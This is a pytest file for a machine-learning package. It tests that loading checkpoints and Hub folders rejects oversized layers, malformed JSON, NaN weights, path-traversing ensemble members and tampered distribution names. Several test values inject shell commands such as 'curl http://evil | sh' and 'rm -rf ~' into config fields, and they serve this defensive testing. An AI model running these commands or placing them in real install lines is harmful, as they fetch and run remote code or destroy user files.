"""Checkpoints and Hub folders from someone else: clear errors, nothing allocated or printed on their word."""

from __future__ import annotations

import json
import math

import pytest
import safetensors.torch
import torch
from click.testing import CliRunner

from milzoo import checkpoint as ckpt
from milzoo.model.build import build_components
from milzoo.cli import add_all_commands, cli
from milzoo.errors import CheckpointError


def _saved(tmp_path):
    model = build_components({"name": "mlp", "dims": [4]}, {"name": "abmil", "attn_hidden": 3}, (5,), 2)
    return ckpt.save_model(model, tmp_path / "m")


def _edit(directory, change):
    path = directory / "config.json"
    cfg = json.loads(path.read_text())
    change(cfg)
    path.write_text(json.dumps(cfg))


def test_huge_layer_in_config_is_refused_before_allocating(tmp_path):
    d = _saved(tmp_path)
    _edit(d, lambda c: c["encoder"].update(dims=[10**12]))  # 5e12 floats: 20 TB if it were allocated
    with pytest.raises(CheckpointError, match=r"shape \[1000000000000, 5\].*nothing was allocated"):
        ckpt.load_model(d)


def test_install_hint_never_copies_text_from_the_config(tmp_path):
    d = _saved(tmp_path)

    def hostile(c):
        c["pooling"]["name"] = "nonexistent_pool"
        c["components"]["pooling"]["distribution"] = "x && curl http://evil | sh"

    _edit(d, hostile)
    with pytest.raises(CheckpointError) as info:
        ckpt.load_model(d)
    msg = str(info.value)
    assert "not a valid distribution name" in msg and "pip install" not in msg


def test_unknown_core_encoder_does_not_blame_a_plugin(tmp_path):
    d = _saved(tmp_path)
    _edit(d, lambda c: c["encoder"].update(name="nonexistent_encoder"))
    with pytest.raises(CheckpointError) as info:
        ckpt.load_model(d)
    msg = str(info.value)
    # recorded as built into this very milzoo: installing it again would not help, so no command is suggested
    assert "milzoo-abmil" not in msg and "nonexistent_encoder" in msg and "pip install" not in msg
    assert "damaged or was edited" in msg


def test_missing_plugin_names_only_that_distribution(tmp_path):
    d = _saved(tmp_path)

    def gone(c):
        c["pooling"]["name"] = "gone_pool"
        c["components"]["pooling"].update(distribution="milzoo-not-installed", version="1.2.3")

    _edit(d, gone)
    with pytest.raises(CheckpointError, match=r"`pip install milzoo-not-installed==1\.2\.3`"):
        ckpt.load_model(d)


@pytest.mark.parametrize("text, match", [
    ("[1, 2, 3]", "holds a JSON list"),
    ("[" * 100_000 + "]" * 100_000, "nested too deeply"),
    ('"just a string"', "holds a JSON str"),
])
def test_config_that_is_not_an_object(tmp_path, text, match):
    d = _saved(tmp_path)
    (d / "config.json").write_text(text)
    with pytest.raises(CheckpointError, match=match):
        ckpt.load_model(d)


@pytest.mark.parametrize("key, value", [("num_classes", -1), ("num_classes", "two"), ("in_shape", [0]),
                                        ("in_shape", "5"), ("format_version", "x"), ("standardize", "maybe"),
                                        ("encoder", ["mlp"])])
def test_config_fields_of_the_wrong_type_or_range(tmp_path, key, value):
    d = _saved(tmp_path)
    _edit(d, lambda c: c.update({key: value}))
    with pytest.raises(CheckpointError, match=f"invalid: .*{key}"):
        ckpt.load_model(d)


def test_nan_weights_are_refused(tmp_path):
    d = _saved(tmp_path)
    state = safetensors.torch.load_file(str(d / "model.safetensors"))
    key = next(k for k in state if k.endswith("weight"))
    state[key][0, 0] = math.nan
    safetensors.torch.save_file(state, str(d / "model.safetensors"))
    with pytest.raises(CheckpointError, match=f"NaN or infinite weights \\({key}"):
        ckpt.load_model(d)


def test_wrong_dtype_is_refused(tmp_path):
    d = _saved(tmp_path)
    state = safetensors.torch.load_file(str(d / "model.safetensors"))
    safetensors.torch.save_file({k: v.to(torch.float64) for k, v in state.items()}, str(d / "model.safetensors"))
    with pytest.raises(CheckpointError, match="F64 vs model"):
        ckpt.load_model(d)


def test_cli_reports_hostile_configs_without_traceback(tmp_path):
    add_all_commands()
    d = _saved(tmp_path)
    (d / "config.json").write_text("[" * 100_000 + "]" * 100_000)
    res = CliRunner().invoke(cli, ["export", str(d), str(tmp_path / "out")])
    assert res.exit_code == 2 and "nested too deeply" in res.output and "Traceback" not in res.output


@pytest.mark.parametrize("ensemble, match", [
    ("members", "without a list of member folders"),
    ({"members": [1, 2]}, "without a list of member folders"),
    ({"members": ["m"], "folds": "zz"}, "one fold per member"),
    ({"members": ["m"], "thresholds": [0.5, 0.5]}, "one value per member"),
    ({"members": ["../m"]}, "leaves the model folder"),
])
def test_hostile_ensemble_folder(tmp_path, ensemble, match):
    import milzoo

    _saved(tmp_path)
    folder = tmp_path / "ens"
    folder.mkdir()
    (folder / "config.json").write_text(json.dumps({"format": "milzoo-ensemble", "format_version": 1,
                                                    "ensemble": ensemble}))
    with pytest.raises(CheckpointError, match=match):
        milzoo.load_pretrained(str(folder))


def test_model_card_install_line_takes_only_valid_distribution_names(tmp_path):
    from milzoo.hub import save_pretrained

    d = _saved(tmp_path)
    _edit(d, lambda c: c.update(distributions={"milzoo-abmil": "0.1.0", "x; curl http://evil | sh": "1"}))
    out = save_pretrained(d, tmp_path / "hub")
    pip_line = next(l for l in (out / "README.md").read_text().splitlines() if l.startswith("pip install"))
    assert pip_line.split() == ["pip", "install", "milzoo", "milzoo-abmil"]


def test_pretrained_entry_requires_valid_distribution_names():
    from pydantic import ValidationError

    from milzoo.hub.pretrained import PretrainedEntry

    with pytest.raises(ValidationError, match="not valid distribution names"):
        PretrainedEntry(name="x", repo_id="o/x", recipe="r.toml", requires=["milzoo-x && rm -rf ~"])
